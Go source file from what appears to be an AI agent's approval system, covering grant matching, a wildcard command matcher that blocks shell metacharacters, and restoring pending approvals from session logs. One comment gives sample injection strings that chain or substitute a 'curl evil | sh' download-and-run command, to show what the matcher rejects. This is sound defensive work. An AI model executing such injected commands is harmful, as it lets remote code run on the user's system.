package tools

import (
	"encoding/json"
	"fmt"
	"strings"

	"github.com/ptc-dev/ptc/runtime/session"
)

// covers reports whether grant g admits a call that needs want: the same
// tool and mode and, for an escalation, the same command or one matching
// g's pattern. A tool grant (no mode) never covers an escalation.
func covers(g, want session.Grant) bool {
	if g.Tool != want.Tool || g.Mode != want.Mode {
		return false
	}
	if g.Pattern != "" {
		return want.Mode != "" && MatchPattern(g.Pattern, want.Command)
	}
	return g.Command == want.Command
}

// patternStops are the characters a pattern's * never matches: the ones
// that end a simple shell command or start an expansion, so "go test *"
// admits "go test ./..." but not "go test x; curl evil | sh" or
// "go test $(curl evil)".
const patternStops = ";&|<>`$()\n\r"

// MatchPattern reports whether command matches pattern, in which * stands
// for any run of characters other than ; & | < > ` $ ( ) and line breaks,
// and every other character stands for itself. A pattern without * is the
// exact command.
func MatchPattern(pattern, command string) bool {
	parts := strings.Split(pattern, "*")
	if len(parts) == 1 {
		return pattern == command
	}
	if !strings.HasPrefix(command, parts[0]) {
		return false
	}
	rest := command[len(parts[0]):]
	for i, p := range parts[1:] {
		last := i == len(parts)-2
		var j int
		if last {
			if !strings.HasSuffix(rest, p) {
				return false
			}
			j = len(rest) - len(p)
		} else if j = strings.Index(rest, p); j < 0 {
			return false
		}
		if strings.ContainsAny(rest[:j], patternStops) {
			return false
		}
		rest = rest[j+len(p):]
	}
	return true
}

// CheckPattern says why a pattern the user typed cannot be a grant: empty,
// only wildcards, or holding a character * would never match. nil means
// it is fine.
func CheckPattern(pattern string) error {
	if strings.Trim(pattern, "* \t") == "" {
		return fmt.Errorf("a pattern needs more than wildcards: it would admit any command")
	}
	if strings.ContainsAny(pattern, "\n\r") {
		return fmt.Errorf("a pattern is one line")
	}
	return nil
}

// Restore rebuilds the session grants and the request numbering from a
// session's events: every allow-session the user gave with a Grant (the
// approval/decided records), and the highest request id asked, so new
// requests never reuse an old id. A resumed session calls it before its
// first turn.
func (a *Approvals) Restore(events []session.Event) error {
	st := a.st
	st.mu.Lock()
	defer st.mu.Unlock()
	for _, ev := range events {
		switch ev.Type {
		case session.TypeApprovalAsked:
			var d session.ApprovalAsked
			if err := json.Unmarshal(ev.Data, &d); err != nil {
				return fmt.Errorf("approval/asked at seq %d: %w", ev.Seq, err)
			}
			if n, ok := requestNumber(d.ID); ok && n > st.next {
				st.next = n
			}
		case session.TypeApprovalDecided:
			var d session.ApprovalDecided
			if err := json.Unmarshal(ev.Data, &d); err != nil {
				return fmt.Errorf("approval/decided at seq %d: %w", ev.Seq, err)
			}
			if d.Decision == AnswerAllowSession && d.By == ByUser && d.Grant != nil {
				st.addGrant(*d.Grant)
			}
		}
	}
	return nil
}

// Opened is a request a log holds open: the Question its approval/asked
// carries and that event's seq.
type Opened struct {
	Seq      int64
	Question Question
}

// PendingFrom returns the requests a log holds open: each approval/asked
// with an id and no approval/decided of that id after it, oldest first.
// A restarted server shows them again from here, without opening (and so
// repairing) the session; answering them is its business (their waiting
// call ended with the process that asked).
func PendingFrom(events []session.Event) ([]Opened, error) {
	open := map[string]int{}
	var qs []Opened
	for _, ev := range events {
		switch ev.Type {
		case session.TypeApprovalAsked:
			var d session.ApprovalAsked
			if err := json.Unmarshal(ev.Data, &d); err != nil {
				return nil, fmt.Errorf("approval/asked at seq %d: %w", ev.Seq, err)
			}
			if d.ID == "" {
				continue
			}
			open[d.ID] = len(qs)
			qs = append(qs, Opened{Seq: ev.Seq, Question: fromAsked(d)})
		case session.TypeApprovalDecided:
			var d session.ApprovalDecided
			if err := json.Unmarshal(ev.Data, &d); err != nil {
				return nil, fmt.Errorf("approval/decided at seq %d: %w", ev.Seq, err)
			}
			if i, ok := open[d.ID]; ok && d.ID != "" {
				qs[i].Question.ID = ""
				delete(open, d.ID)
			}
		}
	}
	out := qs[:0]
	for _, q := range qs {
		if q.Question.ID != "" {
			out = append(out, q)
		}
	}
	return out, nil
}

// asked is the approval/asked record of q.
func asked(q Question, reason string) session.ApprovalAsked {
	return session.ApprovalAsked{ID: q.ID, Kind: q.Kind, CallID: q.CallID, Name: q.Tool, Arguments: q.Args, Reason: reason,
		Text: q.Text, Options: q.Options, Mode: q.Mode, Current: q.Current, Unconfined: q.Unconfined,
		Justification: q.Justification, Workspace: q.Workspace, Grant: q.Grant}
}

// fromAsked is the Question an approval/asked record shows.
func fromAsked(d session.ApprovalAsked) Question {
	kind := d.Kind
	if kind == "" {
		kind = KindApproval
	}
	return Question{ID: d.ID, Kind: kind, CallID: d.CallID, Tool: d.Name, Args: d.Arguments, Text: d.Text,
		Options: d.Options, Mode: d.Mode, Current: d.Current, Unconfined: d.Unconfined,
		Justification: d.Justification, Workspace: d.Workspace, Grant: d.Grant}
}
